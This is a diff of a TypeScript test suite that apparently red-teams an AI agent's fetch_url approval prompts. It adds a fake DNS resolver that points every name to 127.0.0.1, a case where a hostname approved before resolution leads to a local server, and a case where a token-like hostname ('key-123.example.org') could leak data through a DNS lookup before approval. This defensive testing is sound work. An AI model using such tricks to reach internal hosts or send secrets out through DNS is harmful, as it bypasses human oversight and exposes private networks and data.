@@ -41,28 +41,49 @@ async function answersItself(world: World, ...flags: readonly string[]): Promise
 
 /** Resolves every name to this machine, as a name of a stranger may. */
 const RESOLVER = `import dns from 'node:dns';
+import { writeFileSync } from 'node:fs';
 import { syncBuiltinESMExports } from 'node:module';
-const give = (options, done) => (options?.all ? done(null, [{ address: '127.0.0.1', family: 4 }]) : done(null, '127.0.0.1', 4));
+const looked = () => writeFileSync(new URL('looked-up', import.meta.url), '');
+const give = (options, done) => (looked(), options?.all ? done(null, [{ address: '127.0.0.1', family: 4 }]) : done(null, '127.0.0.1', 4));
 dns.lookup = (name, options, done) => (typeof options === 'function' ? give({}, options) : give(options, done));
-dns.promises.lookup = async (name, options) => (options?.all ? [{ address: '127.0.0.1', family: 4 }] : { address: '127.0.0.1', family: 4 });
+dns.promises.lookup = async (name, options) => (looked(), options?.all ? [{ address: '127.0.0.1', family: 4 }] : { address: '127.0.0.1', family: 4 });
 dns.promises.resolve4 = dns.promises.resolve = async () => ['127.0.0.1'];
 dns.promises.resolve6 = async () => [];
 syncBuiltinESMExports();
 `;
 
-async function addressWarnings(world: World, url: string, preload?: string): Promise<string> {
+async function addressWarnings(world: World, url: string): Promise<string> {
   const args = ['chat', '-m', world.calling('fetch_url', { url }), '-p', 'go', '--json'];
-  const ran = await world.run(args, preload === undefined ? {} : { preload });
+  const ran = await world.run(args);
   const interrupt = listAt(parsed(ran.stdout), 'interrupts')[0];
   return interrupt === undefined ? 'refused' : JSON.stringify(at(interrupt, 'payload', 'warnings') ?? []);
 }
 
-async function flagged(world: World, url: string, preload?: string): Promise<Verdict> {
+async function flagged(world: World, url: string): Promise<Verdict> {
   const known = await addressWarnings(world, 'https://10.0.0.1/');
   const open = await addressWarnings(world, 'https://93.184.215.14/');
   premise(known !== open, 'a private address is not told from a public one');
-  const shown = await addressWarnings(world, url, preload);
+  const shown = await addressWarnings(world, url);
   return shown === open ? broken(`${url} is shown as any public address`) : held(shown);
+}
+
+/** Where the person was not told at the first question, nothing may be connected to before a second one. */
+async function leadsHere(world: World): Promise<Verdict> {
+  const server = world.keep(
+    await Loopback.start((_, response) => {
+      response.writeHead(200, { 'content-type': 'text/plain' }).end('inside');
+    }),
+  );
+  const url = `http://innocent.example.org:${new URL(server.url).port}/`;
+  const preload = world.write('resolver.mjs', RESOLVER);
+  const id = await world.chat(world.calling('fetch_url', { url }));
+  await world.run(['answer', id, 'y']);
+  await world.run(['resume', id, '-p'], { preload });
+  premise(world.exists('looked-up'), 'the name was not looked up');
+  const asked = world.eventsOf(world.session, 'interrupt-raised').map((event) => JSON.stringify(event));
+  const told = asked.some((text) => text.includes('a host of this machine or of its own network'));
+  if (server.received.length > 0) return broken('connected after a question that showed a public address');
+  return told ? held('asked again, with the address, before anything was connected to') : broken('not told');
 }
 
 export const COMMANDS: readonly Attack[] = [
@@ -130,8 +151,24 @@ export const COMMANDS: readonly Attack[] = [
   },
   {
     id: 'L3c',
-    tried: 'a name that resolves to this machine',
-    run: async (world) =>
-      flagged(world, 'https://innocent.example.org/', world.write('resolver.mjs', RESOLVER)),
+    tried: 'a name that resolves to this machine, approved before anybody knew',
+    run: leadsHere,
+  },
+  {
+    id: 'L3d',
+    tried: 'a name is looked up, and what it holds so sent, before anybody agreed',
+    run: async (world) => {
+      const preload = world.write('resolver.mjs', RESOLVER);
+      const args = [
+        'chat',
+        '-m',
+        world.calling('fetch_url', { url: 'https://key-123.example.org/' }),
+        '-p',
+        'go',
+      ];
+      await world.run(args, { preload });
+      premise(world.eventsOf(world.session, 'interrupt-raised').length > 0, 'nobody was asked');
+      return world.exists('looked-up') ? broken('looked up') : held('asked first');
+    },
   },
 ];
